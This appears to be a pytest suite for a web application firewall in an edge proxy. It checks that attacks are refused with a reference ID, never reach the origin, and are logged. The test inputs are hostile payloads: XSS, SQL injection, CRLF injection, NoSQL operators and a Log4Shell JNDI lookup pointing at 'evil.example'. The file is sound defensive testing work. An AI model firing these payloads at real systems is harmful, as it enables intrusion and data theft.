"""The request firewall in the running server: what a client, the origin and an operator each see.

One shared edge serves routes in block mode, shadow mode, without the
firewall, with the aggressive profile, with body limits, behind a JWT rule
and behind CORS, and proxies to tests/origin.py, which records exactly
what reached it. Requests go out over HTTP/1.1, HTTP/2 and HTTP/3 with
real clients; what the edge recorded is read back from its access log, its
audit file, a real OTLP/HTTP collector and the admin /metrics. Config
checks and reloads run on servers of their own.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import signal
import socket
import ssl
import urllib.parse
import uuid
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http import HTTPStatus
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from tests.conftest import base_config
from tests.h3client import H3Transport
from tests.origin import Origin
from tests.otlp_receiver import OTLPHttpReceiver
from tests.pki import CA, Issued
from tests.server import Server, events, to_toml, wait_for
from tests.test_config import check
from tests.test_policy import AUDIENCE, ISSUER, Keys, bearer, mint
from tests.test_telemetry import FAST_OTLP, access_records, attrs, audit_event, scrape

StartServer = Callable[..., Server]
APP = "https://app.example"
JSON = {"Content-Type": "application/json"}
REFERENCE = re.compile(r"[0-9a-f]{16}")

# Attacks as sent, and the words of them that must never come back to the client.
XSS = "<script>alert(1)</script>"
SQLI = "1' UNION SELECT password FROM users--"
JNDI = "${jndi:ldap://evil.example/a}"
COOKIE_SQLI = "' OR '1'='1"
# Operators only the aggressive profile looks for: balanced lets them through.
NOSQL = '{"$where": "this.password.length > 0"}'


def q(text: str) -> str:
    return urllib.parse.quote(text, safe="")


# --------------------------------------------------------------------------- the shared edge


@dataclass
class Lab:
    server: Server
    origin: Origin
    collector: OTLPHttpReceiver
    access_log: Path
    audit: Path
    ca: CA

    def http(self, path: str) -> str:
        return self.server.url("http", path)

    def https(self, path: str) -> str:
        return f"https://localhost:{self.server.address('https')[1]}{path}"

    def client(self, version: str = "h1") -> httpx.Client:
        """A client over `version`; h1 talks to the plain listener, h2 and h3 to the TLS one."""
        if version == "h3":
            return httpx.Client(transport=H3Transport(str(self.ca.pem)), timeout=10)
        context = ssl.create_default_context(cafile=str(self.ca.pem))
        return httpx.Client(verify=context, http2=version == "h2", timeout=10)

    def url(self, version: str, path: str) -> str:
        return self.http(path) if version == "h1" else self.https(path)


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    private = ec.generate_private_key(ec.SECP256R1())
    public_pem = tmp_path_factory.mktemp("waf-jwt") / "idp.pub.pem"
    public_pem.write_bytes(
        private.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    return Keys(private, public_pem, ec.generate_private_key(ec.SECP256R1()))


def proxied(path: str, **waf: Any) -> dict[str, Any]:
    route: dict[str, Any] = {
        "path": path,
        "methods": ["GET", "POST", "PUT", "PATCH", "DELETE"],
        "proxy": {"upstream": "app", "strip_prefix": path.rstrip("/")},
    }
    if waf:
        route["waf"] = waf
    return route


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, ca: CA, localhost_cert: Issued, keys: Keys) -> Iterator[Lab]:
    work = tmp_path_factory.mktemp("waf-lab")
    root = work / "www"
    for sub in ("open", "watch", "private", "cors"):
        (root / sub).mkdir(parents=True)
        (root / sub / "f.txt").write_text(f"{sub}\n")
    (root / "hello.txt").write_text("hello world\n")
    access_log, audit = work / "access.log", work / "audit.jsonl"
    with OTLPHttpReceiver() as collector, Origin(name="waf-origin") as origin:
        static = {"root": str(root)}
        config = base_config(
            root,
            localhost_cert,
            access_log={"enabled": True, "path": str(access_log), "flush_interval": 0.05},
            audit={"file": str(audit)},
            telemetry={
                "interval": 0.05,
                "tracing": {"trusted_sources": ["127.0.0.1/32"]},
                "otlp": {"endpoint": collector.endpoint, **FAST_OTLP},
            },
            upstreams=[{"name": "app", "origins": [origin.url], "retries": 0}],
            waf={
                "enabled": True,
                "profiles": [
                    {"name": "watch", "action": "shadow"},
                    {"name": "tight", "max_inspect_body_bytes": 1024, "oversize": "reject"},
                    {"name": "prefix", "max_inspect_body_bytes": 1024},
                ],
            },
            policy={
                "jwt": [
                    {
                        "name": "idp",
                        "issuer": ISSUER,
                        "audiences": [AUDIENCE],
                        "keys": [{"kid": "k1", "alg": "ES256", "file": str(keys.public_pem)}],
                    }
                ],
                "rules": [{"name": "private", "path": "/private/", "jwt": "idp", "grants": [{"roles": []}]}],
            },
            routes=[
                {"path": "/", "static": static},
                {"path": "/open/", "static": static, "waf": {"enabled": False}},
                {"path": "/watch/", "static": static, "waf": {"profile": "watch"}},
                {"path": "/private/", "static": static},
                {"path": "/cors/", "static": static, "cors": {"origins": [APP]}},
                proxied("/api/"),
                proxied("/raw/", enabled=False),
                proxied("/watched/", profile="watch"),
                proxied("/strict/", profile="aggressive"),
                proxied("/tight/", profile="tight"),
                proxied("/prefix/", profile="prefix"),
            ],
        )
        config["listeners"][1]["h2c"] = True
        server = Server(config, work, name="waf-lab")
        server.start()
        try:
            yield Lab(server, origin, collector, access_log, audit, ca)
        finally:
            server.stop()


@pytest.fixture(scope="module")
def h1(lab: Lab) -> Iterator[httpx.Client]:
    with lab.client("h1") as client:
        yield client


# --------------------------------------------------------------------------- what a refusal looks like


def refused(response: httpx.Response, status: int, *sent: str) -> str:
    """Check a firewall refusal: the status, a reference in header and body, nothing the client sent; the reference."""
    assert response.status_code == status, (response.status_code, response.text)
    reference = str(response.headers.get("edge-reference", ""))
    assert REFERENCE.fullmatch(reference), response.headers
    phrase = HTTPStatus(status).phrase
    assert response.content == f"{status} {phrase}\nreference: {reference}\n".encode()
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    head = "\n".join(f"{name}: {value}" for name, value in response.headers.multi_items()).lower()
    for text in sent:
        for form in (text.lower(), q(text).lower()):
            assert form not in head, form
            assert form.encode() not in response.content.lower(), form
    return reference


def origin_requests(lab: Lab, path: str) -> int:
    return sum(1 for r in lab.origin.requests if r.path == path)


def traceparent() -> tuple[str, dict[str, str]]:
    """A trace id of the test's own, sent as the parent: how a test finds its request in the logs."""
    trace_id = uuid.uuid4().hex
    return trace_id, {"traceparent": f"00-{trace_id}-{uuid.uuid4().hex[:16]}-01"}


def access_line(lab: Lab, **match: Any) -> dict[str, Any]:
    """The one access-log line whose fields include `match`, once written."""
    found: list[dict[str, Any]] = []

    def written() -> bool:
        found[:] = [r for r in access_records(lab.access_log) if all(r.get(k) == v for k, v in match.items())]
        return bool(found)

    wait_for(written, 10, f"an access-log line {match}")
    assert len(found) == 1, found
    return found[0]


def exported_spans(lab: Lab, which: Callable[[Any], bool], what: str) -> list[Any]:
    """The spans the collector received that `which` picks, once there is at least one."""
    found: list[Any] = []

    def exported() -> bool:
        found[:] = [s for s in lab.collector.spans() if which(s)]
        return bool(found)

    wait_for(exported, 10, what)
    return found


def waf_matches(lab: Lab, **labels: str) -> float:
    family = scrape(lab.server).get("edgeward_waf_matches_total")
    return family.total(**labels) if family is not None else 0.0


def auth_decisions(lab: Lab) -> float:
    """Access decisions of every outcome: one per request that met the gate."""
    family = scrape(lab.server).get("edgeward_auth_decisions_total")
    return family.total() if family is not None else 0.0


def denied_waf(lab: Lab) -> float:
    family = scrape(lab.server).get("edgeward_auth_decisions_total")
    return family.total(outcome="denied_waf") if family is not None else 0.0


class Connection:
    """One HTTP/1.1 connection driven by hand: what follows a refusal, an interim 100, a reload, on the same socket."""

    def __init__(self, address: tuple[str, int], timeout: float = 5.0) -> None:
        self.sock = socket.create_connection(address, timeout=timeout)
        self.buf = b""

    def send(self, method: str, target: str, headers: dict[str, str] | None = None, body: bytes = b"") -> None:
        fields = {"Host": "localhost", **(headers or {})}
        if body and "Content-Length" not in fields and "Transfer-Encoding" not in fields:
            fields["Content-Length"] = str(len(body))
        head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in fields.items()) + "\r\n"
        self.sock.sendall(head.encode() + body)

    def response(self) -> tuple[int, dict[str, str], bytes]:
        """The next response (an interim 1xx included), framed by Content-Length."""
        while b"\r\n\r\n" not in self.buf:
            self._read()
        head, _, self.buf = self.buf.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split()[1])
        fields = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines[1:])}
        if status < 200:
            return status, fields, b""
        length = int(fields["content-length"])
        while len(self.buf) < length:
            self._read()
        body, self.buf = self.buf[:length], self.buf[length:]
        return status, fields, body

    def get(self, target: str) -> tuple[int, bytes]:
        self.send("GET", target)
        status, fields, body = self.response()
        assert fields.get("connection") != "close", fields
        return status, body

    def _read(self) -> None:
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionError("the server closed the connection")
        self.buf += data

    def close(self) -> None:
        self.sock.close()


# =========================================================================== 1. block mode, the request head

HEAD_ATTACKS = [
    pytest.param(f"/search/{q(XSS)}", {}, [XSS], id="path"),
    pytest.param(f"/hello.txt?q={q(XSS)}", {}, [XSS], id="query"),
    pytest.param(f"/hello.txt?id={q(SQLI)}", {}, [SQLI], id="query-sqli"),
    pytest.param(f"/hello.txt?q={q(q(XSS))}", {}, [XSS, q(XSS)], id="query-double-encoded"),
    pytest.param("/hello.txt", {"User-Agent": JNDI}, [JNDI], id="user-agent"),
    pytest.param("/hello.txt", {"Cookie": f"session=abc123; pref={COOKIE_SQLI}"}, [COOKIE_SQLI], id="cookie"),
]


@pytest.mark.parametrize(("target", "headers", "sent"), HEAD_ATTACKS)
def test_attack_in_the_head_gets_403_with_a_reference_and_nothing_it_sent(
    lab: Lab, h1: httpx.Client, target: str, headers: dict[str, str], sent: list[str]
) -> None:
    refused(h1.get(lab.http(target), headers=headers), 403, *sent)


def test_each_refusal_has_its_own_reference(lab: Lab, h1: httpx.Client) -> None:
    references = {refused(h1.get(lab.http(f"/hello.txt?q={q(XSS)}")), 403) for _ in range(5)}
    assert len(references) == 5


BENIGN = [
    pytest.param(
        "/hello.txt?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0"
        "IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        {},
        id="jwt-in-query",
    ),
    pytest.param("/hello.txt?q=" + q("it's O'Brien's book, isn't it? Rock 'n' roll"), {}, id="apostrophes"),
    pytest.param(f"/hello.txt?q={q('select a size & colour, then order')}", {}, id="sql-words-in-prose"),
    pytest.param(
        "/hello.txt",
        {
            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0",
            "Referer": "http://localhost:3000/checkout?step=2",
            "Cookie": "session=3q2+7w==; theme=dark; consent=yes",
        },
        id="browser-headers",
    ),
]


@pytest.mark.parametrize(("target", "headers"), BENIGN)
def test_benign_requests_are_served(lab: Lab, h1: httpx.Client, target: str, headers: dict[str, str]) -> None:
    response = h1.get(lab.http(target), headers=headers)
    assert (response.status_code, response.text) == (200, "hello world\n")
    assert "edge-reference" not in response.headers


def test_headers_outside_the_profiles_list_are_not_inspected(lab: Lab, h1: httpx.Client) -> None:
    response = h1.get(lab.http("/hello.txt"), headers={"X-Note": XSS, "X-Search": SQLI})
    assert (response.status_code, response.text) == (200, "hello world\n")
    refused(h1.get(lab.http("/hello.txt"), headers={"X-Original-URL": f"/admin?q={XSS}"}), 403, XSS)


def test_healthz_is_never_inspected(lab: Lab, h1: httpx.Client) -> None:
    response = h1.get(lab.http(f"/healthz?q={q(XSS)}"), headers={"User-Agent": JNDI})
    assert (response.status_code, response.text) == (200, "ok\n")


# =========================================================================== 2. bodies


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_attack_in_a_json_body_is_refused_and_never_reaches_the_origin(lab: Lab, h1: httpx.Client, method: str) -> None:
    path = f"/upload-{method.lower()}-{uuid.uuid4().hex[:8]}"
    body = json.dumps({"comment": XSS, "id": SQLI}).encode()
    refused(h1.request(method, lab.http("/api" + path), content=body, headers=JSON), 403, XSS, SQLI)
    # The same method with a clean body goes through to the origin, and it alone arrives.
    clean = json.dumps({"comment": "fine", "id": 7}).encode()
    assert h1.request(method, lab.http("/api" + path), content=clean, headers=JSON).status_code == 404
    (arrived,) = lab.origin.wait_for(1, path=path)
    assert (arrived.method, arrived.body) == (method, clean)


def test_a_get_body_is_not_inspected(lab: Lab, h1: httpx.Client) -> None:
    """Only POST, PUT, PATCH and DELETE bodies are inspected; a GET body is streamed to the origin as is."""
    body = json.dumps({"comment": XSS}).encode()
    response = h1.request("GET", lab.http("/api/upload"), content=body, headers=JSON)
    assert response.status_code == 200, response.text
    assert response.json()["length"] == len(body)


def test_invalid_json_gets_400_only_when_it_is_announced_as_json(lab: Lab, h1: httpx.Client) -> None:
    broken = b'{"amount": 10, "to": '
    refused(h1.post(lab.http("/api/upload"), content=broken, headers=JSON), 400)
    problem = {"Content-Type": "application/problem+json; charset=utf-8"}
    refused(h1.post(lab.http("/api/upload"), content=broken, headers=problem), 400)
    for other in ("application/jsonx", "application/json-seq", "text/plain"):
        response = h1.post(lab.http("/api/upload"), content=broken, headers={"Content-Type": other})
        assert (response.status_code, response.json()["length"]) == (200, len(broken)), other


def test_random_bytes_in_a_json_string_are_refused_by_entropy(lab: Lab, h1: httpx.Client) -> None:
    rnd = random.Random(7)
    ascii_chars = [chr(c) for c in range(0x21, 0x7F) if c not in (0x22, 0x5C)]
    wide_chars = [chr(c) for c in range(0xA1, 0x800)]
    noise = "".join(rnd.choice(ascii_chars if rnd.random() < 0.5 else wide_chars) for _ in range(600))
    body = json.dumps({"note": noise}, ensure_ascii=False).encode()
    assert len(body) >= 256
    before = waf_matches(lab, profile="balanced", category="entropy")
    refused(h1.post(lab.http("/api/upload"), content=body, headers=JSON), 403)
    wait_for(lambda: waf_matches(lab, profile="balanced", category="entropy") == before + 1, 5, "entropy counted")
    # Base64 of the same amount of randomness is what APIs carry: it passes.
    blob = json.dumps({"file": base64.b64encode(rnd.randbytes(600)).decode()}).encode()
    assert h1.post(lab.http("/api/upload"), content=blob, headers=JSON).status_code == 200


def test_oversize_body_is_refused_with_413_under_reject(lab: Lab, h1: httpx.Client) -> None:
    fits = json.dumps({"text": "a" * 900}).encode()
    assert len(fits) <= 1024
    assert h1.post(lab.http("/tight/upload"), content=fits, headers=JSON).status_code == 200
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    large = json.dumps({"text": "a" * 2000}).encode()
    refused(h1.post(lab.http("/tight" + path), content=large, headers=JSON), 413)
    assert origin_requests(lab, path) == 0


def chunked(*pieces: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


def test_a_refused_upload_leaves_the_connection_usable(lab: Lab) -> None:
    """A refused body has been read to its end, so the next request on the connection parses."""
    conn = Connection(lab.server.address("http"))
    try:
        conn.send("POST", "/api/upload", JSON, json.dumps({"comment": XSS}).encode())
        status, fields, _ = conn.response()
        assert (status, fields.get("connection")) == (403, None)
        assert conn.get("/hello.txt") == (200, b"hello world\n")
        conn.send("POST", "/tight/upload", JSON, json.dumps({"text": "a" * 2000}).encode())
        assert conn.response()[0] == 413
        assert conn.get("/hello.txt") == (200, b"hello world\n")
        attack = chunked(b'{"q": "1\' UNI', b"ON SELECT password FROM users--", b'"}')
        conn.send("POST", "/api/upload", {**JSON, "Transfer-Encoding": "chunked"}, attack)
        assert conn.response()[0] == 403
        assert conn.get("/hello.txt") == (200, b"hello world\n")
    finally:
        conn.close()


def test_expect_100_continue_is_answered_when_the_body_is_held_for_inspection(lab: Lab) -> None:
    """curl (and everything built on libcurl) sends uploads with Expect: 100-continue and holds the body
    back until the 100 comes or its timeout (1 s) passes: an edge that gathers the body must ask for it,
    as it does when the body streams to the origin."""
    body = json.dumps({"rows": list(range(500))}).encode()
    attack = json.dumps({"comment": XSS}).encode()
    conn = Connection(lab.server.address("http"), timeout=2.0)
    try:
        for route, sent, status in (
            ("/raw/upload", body, 200),
            ("/api/upload", body, 200),
            ("/api/upload", attack, 403),
        ):
            conn.send("POST", route, {**JSON, "Expect": "100-continue", "Content-Length": str(len(sent))})
            try:
                interim: int | None = conn.response()[0]
            except TimeoutError:
                interim = None
            assert interim == 100, f"{route}: no 100 Continue within 2 s"
            conn.sock.sendall(sent)
            assert conn.response()[0] == status, route
    finally:
        conn.close()
    # Refused on its head: answered at once, and the client is never asked for the body.
    conn = Connection(lab.server.address("http"), timeout=2.0)
    try:
        conn.send("POST", f"/api/upload?q={q(XSS)}", {**JSON, "Expect": "100-continue", "Content-Length": "1000"})
        assert conn.response()[0] == 403
    finally:
        conn.close()


def test_a_body_cut_off_before_its_end_never_reaches_the_origin(lab: Lab, h1: httpx.Client) -> None:
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    conn = Connection(lab.server.address("http"))
    try:
        conn.send("POST", "/api" + path, {**JSON, "Content-Length": "4000"}, b'{"text": "' + b"a" * 1000)
        conn.sock.shutdown(socket.SHUT_WR)
        try:
            status: int | None = conn.response()[0]
        except ConnectionError:
            status = None  # closing without an answer is as good: the client has left
    finally:
        conn.close()
    assert status in (400, None)
    # A complete request sent after it arrives; the cut one never did.
    assert h1.post(lab.http("/api" + path), content=b'{"q": 1}', headers=JSON).status_code == 404
    lab.origin.wait_for(1, path=path)
    assert origin_requests(lab, path) == 1


def test_inspect_prefix_lets_a_large_clean_body_through_whole(lab: Lab, h1: httpx.Client) -> None:
    large = json.dumps({"items": [{"name": f"item {i}", "price": i * 3} for i in range(8000)]}).encode()
    assert len(large) > 100_000
    response = h1.post(lab.http("/prefix/upload"), content=large, headers=JSON)
    assert response.status_code == 200, response.text
    assert response.json()["length"] == len(large)
    # An attack within the inspected prefix is still found; past it, the body goes on unread, which is
    # what inspect_prefix trades for letting large bodies through (`oversize = "reject"` is the other way).
    head_attack = json.dumps({"comment": XSS, "items": list(range(2000))}).encode()
    refused(h1.post(lab.http("/prefix/upload"), content=head_attack, headers=JSON), 403, XSS)
    tail_attack = json.dumps({"items": list(range(2000)), "comment": XSS}).encode()
    response = h1.post(lab.http("/prefix/upload"), content=tail_attack, headers=JSON)
    assert (response.status_code, response.json()["length"]) == (200, len(tail_attack))


def test_compressed_bodies_are_not_a_way_around_the_firewall(lab: Lab, h1: httpx.Client) -> None:
    """A body sent with a content coding is inspected as the origin will read it (gzip and deflate decoded),
    or refused as uninspectable (415 naming the codings that would do, RFC 9110 section 15.5.16); never
    passed on unread, and never called invalid JSON."""
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    attack = gzip.compress(json.dumps({"comment": XSS}).encode())
    statuses = {
        ctype: h1.post(
            lab.http("/api" + path), content=attack, headers={"Content-Type": ctype, "Content-Encoding": "gzip"}
        ).status_code
        for ctype in ("application/json", "text/plain", "application/octet-stream")
    }
    assert set(statuses.values()) == {403}, statuses
    deflated = zlib.compress(json.dumps({"comment": XSS}).encode())
    response = h1.post(lab.http("/api" + path), content=deflated, headers={**JSON, "Content-Encoding": "deflate"})
    assert response.status_code == 403, response.text
    unreadable = h1.post(lab.http("/api" + path), content=b"\x1b\x00" * 64, headers={**JSON, "Content-Encoding": "br"})
    assert unreadable.status_code == 415, unreadable.text
    assert unreadable.headers["accept-encoding"] == "gzip, deflate"
    corrupt = h1.post(lab.http("/api" + path), content=attack[:-8], headers={**JSON, "Content-Encoding": "gzip"})
    assert corrupt.status_code == 400, corrupt.text
    assert origin_requests(lab, path) == 0
    clean = gzip.compress(json.dumps({"rows": [{"n": i, "label": f"row {i}"} for i in range(300)]}).encode())
    response = h1.post(lab.http("/api/upload"), content=clean, headers={**JSON, "Content-Encoding": "gzip"})
    assert response.status_code == 200, response.text
    assert response.json()["length"] == len(clean)  # the origin gets the body as sent, still compressed
    plain = json.dumps({"comment": "fine"}).encode()
    response = h1.post(lab.http("/api/upload"), content=plain, headers={**JSON, "Content-Encoding": "identity"})
    assert response.status_code == 200, response.text


# =========================================================================== 3. shadow mode


def test_shadow_profile_lets_the_attack_through_and_records_it(lab: Lab, h1: httpx.Client) -> None:
    before = waf_matches(lab, profile="watch", action="shadow", category="xss")
    trace_id, parent = traceparent()
    response = h1.get(lab.http(f"/watch/f.txt?q={q(XSS)}"), headers=parent)
    assert (response.status_code, response.text) == (200, "watch\n")
    assert "edge-reference" not in response.headers

    line = access_line(lab, trace_id=trace_id)
    assert (line["path"], line["status"], line["auth"]) == ("/watch/f.txt", 200, "allowed")
    assert line["waf"] == "shadow xss xss-001 in query"

    record = audit_event(lab.audit, "edge.waf.shadow", traceId=trace_id)
    assert record["spanId"] == line["span_id"]
    got = record["attrs"]
    assert got["edge.auth.outcome"] == "allowed"
    assert (got["edge.waf.action"], got["edge.waf.profile"]) == ("shadow", "watch")
    assert (got["edge.waf.category"], got["edge.waf.pattern_id"], got["edge.waf.location"]) == (
        "xss",
        "xss-001",
        "query",
    )
    assert got["http.response.status_code"] == "200"
    assert XSS not in json.dumps(record) and q(XSS) not in json.dumps(record)

    (span,) = exported_spans(lab, lambda s: s.trace_id.hex() == trace_id, f"the span of trace {trace_id}")
    assert span.span_id.hex() == line["span_id"]
    span_attrs = attrs(span)
    assert (span_attrs["edge.auth.outcome"], span_attrs["http.response.status_code"]) == ("allowed", 200)
    assert (span_attrs["edge.waf.action"], span_attrs["edge.waf.pattern_id"]) == ("shadow", "xss-001")

    wait_for(
        lambda: waf_matches(lab, profile="watch", action="shadow", category="xss") == before + 1,
        5,
        "the shadow match on /metrics",
    )


def test_shadow_profile_forwards_an_attack_body_as_sent(lab: Lab, h1: httpx.Client) -> None:
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    body = json.dumps({"comment": XSS, "id": SQLI}).encode()
    trace_id, parent = traceparent()
    assert h1.post(lab.http("/watched" + path), content=body, headers={**JSON, **parent}).status_code == 404
    (arrived,) = lab.origin.wait_for(1, path=path)
    assert arrived.body == body
    assert access_line(lab, trace_id=trace_id)["waf"] == "shadow xss xss-001 in body"


# =========================================================================== 4. per route


def test_route_without_the_firewall_passes_what_another_refuses(lab: Lab, h1: httpx.Client) -> None:
    target = f"/f.txt?q={q(XSS)}"
    assert h1.get(lab.http("/open" + target)).text == "open\n"
    refused(h1.get(lab.http("/cors" + target)), 403, XSS)
    # The same for bodies on a proxied route: the origin gets the attack as sent.
    body = json.dumps({"comment": XSS}).encode()
    response = h1.post(lab.http("/raw/upload"), content=body, headers=JSON)
    assert (response.status_code, response.json()["length"]) == (200, len(body))


def test_aggressive_route_refuses_what_balanced_lets_through(lab: Lab, h1: httpx.Client) -> None:
    body = NOSQL.encode()
    assert h1.post(lab.http("/api/upload"), content=body, headers=JSON).status_code == 200
    before = waf_matches(lab, profile="aggressive", category="nosqli")
    refused(h1.post(lab.http("/strict/upload"), content=body, headers=JSON), 403, "$where")
    wait_for(lambda: waf_matches(lab, profile="aggressive", category="nosqli") == before + 1, 5, "nosqli counted")


# =========================================================================== 5. proxied bodies reach the origin intact


def test_clean_json_post_reaches_the_origin_byte_for_byte(lab: Lab, h1: httpx.Client) -> None:
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    rows = [{"n": i, "label": f"row {i}"} for i in range(100)]
    pad = 4096 - len(json.dumps({"rows": rows, "pad": ""}))
    body = json.dumps({"rows": rows, "pad": "-" * pad}).encode()
    assert len(body) == 4096
    response = h1.post(lab.http("/api" + path), content=body, headers=JSON)
    assert response.status_code == 404  # the origin's own answer for an unknown path
    (arrived,) = lab.origin.wait_for(1, path=path)
    assert arrived.body == body
    assert arrived.framing == "content-length"
    assert arrived.header("content-length") == "4096"
    assert arrived.header("content-type") == "application/json"


def test_attack_post_never_reaches_the_origin(lab: Lab, h1: httpx.Client) -> None:
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    seen = len(lab.origin.requests)
    refused(h1.post(lab.http("/api" + path), content=json.dumps({"q": SQLI}).encode(), headers=JSON), 403, SQLI)
    assert len(lab.origin.requests) == seen
    # A request sent after it arrives; the refused one never does.
    assert h1.post(lab.http("/api" + path), content=b'{"q": 1}', headers=JSON).status_code == 404
    lab.origin.wait_for(1, path=path)
    assert origin_requests(lab, path) == 1
    assert len(lab.origin.requests) == seen + 1


def chunks(data: bytes, size: int) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


def test_chunked_upload_is_gathered_inspected_and_forwarded(lab: Lab, h1: httpx.Client) -> None:
    path = f"/upload-{uuid.uuid4().hex[:8]}"
    body = json.dumps({"text": "lorem ipsum " * 3000}).encode()
    response = h1.post(lab.http("/api" + path), content=chunks(body, 1000), headers=JSON)
    assert response.status_code == 404
    (arrived,) = lab.origin.wait_for(1, path=path)
    assert arrived.body == body
    assert (arrived.framing, arrived.header("content-length")) == ("content-length", str(len(body)))
    # An attack cut across chunk boundaries is found in the gathered body.
    attack = json.dumps({"text": "lorem " * 100, "q": SQLI}).encode()
    cut = attack.index(b"UNION") + 2
    sent = [attack[:cut], attack[cut : cut + 5], attack[cut + 5 :]]
    refused(h1.post(lab.http("/api" + path), content=iter(sent), headers=JSON), 403, SQLI)
    assert origin_requests(lab, path) == 1


# =========================================================================== 6. one reference for span, log and audit


def test_reference_is_the_span_id_in_the_log_the_audit_file_and_the_trace(lab: Lab, h1: httpx.Client) -> None:
    before, decisions_before = denied_waf(lab), auth_decisions(lab)
    trace_id, parent = traceparent()
    target = f"/hello.txt?q={q(XSS)}"
    reference = refused(h1.get(lab.http(target), headers=parent), 403, XSS)

    line = access_line(lab, span_id=reference)
    assert line["trace_id"] == trace_id
    assert (line["path"], line["status"], line["auth"]) == ("/hello.txt", 403, "denied_waf")
    assert line["auth_reason"] == "xss xss-001 in query"
    assert line["waf"] == "block xss xss-001 in query"

    record = audit_event(lab.audit, "edge.auth.denied", spanId=reference)
    assert record["traceId"] == trace_id
    got = record["attrs"]
    assert (got["edge.auth.outcome"], got["edge.auth.reason"]) == ("denied_waf", "xss xss-001 in query")
    assert (got["edge.waf.action"], got["edge.waf.profile"], got["edge.waf.category"]) == ("block", "balanced", "xss")
    assert (got["edge.waf.pattern_id"], got["edge.waf.location"]) == ("xss-001", "query")
    assert got["http.response.status_code"] == "403"
    assert XSS not in json.dumps(record) and q(XSS) not in json.dumps(record)

    (span,) = exported_spans(lab, lambda s: s.span_id.hex() == reference, f"the span {reference}")
    assert span.trace_id.hex() == trace_id
    span_attrs = attrs(span)
    expected = {
        "http.response.status_code": 403,
        "edge.auth.outcome": "denied_waf",
        "edge.auth.reason": "xss xss-001 in query",
        "edge.waf.action": "block",
        "edge.waf.category": "xss",
        "edge.waf.pattern_id": "xss-001",
        "edge.waf.location": "query",
        "edge.waf.profile": "balanced",
        "edge.waf.decode_passes": 1,
    }
    assert {k: span_attrs.get(k) for k in expected} == expected
    assert XSS not in str(span) and q(XSS) not in str(span)

    # Counted once, as refused: the gate's `allowed` for the same request is taken back.
    wait_for(lambda: denied_waf(lab) == before + 1, 5, "denied_waf on /metrics")
    assert auth_decisions(lab) == decisions_before + 1


def test_metrics_count_blocks_under_the_action_the_config_and_span_name(lab: Lab, h1: httpx.Client) -> None:
    """`action` is `block` or `shadow` in the profile, on the span, in the audit file and the access log;
    a dashboard joining them needs the same word on the metric."""
    before = waf_matches(lab, profile="balanced", category="crlf")
    refused(h1.get(lab.http("/hello.txt?next=%0d%0aSet-Cookie:%20admin=1")), 403)
    wait_for(lambda: waf_matches(lab, profile="balanced", category="crlf") == before + 1, 5, "the block counted")
    family = scrape(lab.server)["edgeward_waf_matches_total"]
    actions = {dict(labels)["action"] for (_, labels) in family.samples}
    assert actions <= {"block", "shadow"}, actions


# =========================================================================== 7. every protocol


@pytest.mark.parametrize("version", ["h2", "h3"])
def test_the_same_refusals_over_http2_and_http3(lab: Lab, version: str) -> None:
    with lab.client(version) as client:
        head = client.get(lab.url(version, f"/hello.txt?q={q(XSS)}"), headers={"User-Agent": "waf-test"})
        assert head.http_version == {"h2": "HTTP/2", "h3": "HTTP/3"}[version]
        refused(head, 403, XSS)
        cookie = client.get(lab.url(version, "/hello.txt"), headers={"Cookie": f"pref={COOKIE_SQLI}"})
        refused(cookie, 403, COOKIE_SQLI)
        path = f"/upload-{version}-{uuid.uuid4().hex[:8]}"
        body = json.dumps({"comment": XSS}).encode()
        refused(client.post(lab.url(version, "/api" + path), content=body, headers=JSON), 403, XSS)
        clean = json.dumps({"comment": "fine " * 1000}).encode()
        assert client.post(lab.url(version, "/api" + path), content=clean, headers=JSON).status_code == 404
        refused(client.post(lab.url(version, "/api" + path), content=b'{"a": ', headers=JSON), 400)
        ok = client.get(lab.url(version, "/hello.txt"))
        assert (ok.status_code, ok.text) == (200, "hello world\n")
    (arrived,) = lab.origin.wait_for(1, path=path)
    assert arrived.body == clean
    assert arrived.header("content-length") == str(len(clean))


def test_refusal_over_h2c(lab: Lab) -> None:
    with httpx.Client(http1=False, http2=True, timeout=10) as client:
        response = client.get(lab.http(f"/hello.txt?q={q(q(XSS))}"))
    assert response.http_version == "HTTP/2"
    refused(response, 403, XSS)


# =========================================================================== 8. order: gate, CORS, firewall


def test_the_gate_answers_before_the_firewall(lab: Lab, h1: httpx.Client, keys: Keys) -> None:
    target = lab.http(f"/private/f.txt?q={q(XSS)}")
    anonymous = h1.get(target)
    assert anonymous.status_code == 401
    assert "edge-reference" not in anonymous.headers
    # Past the gate, the firewall still refuses, and the audit record names who sent it.
    reference = refused(h1.get(target, headers=bearer(mint(keys, sub="mallory"))), 403, XSS)
    record = audit_event(lab.audit, "edge.auth.denied", spanId=reference)
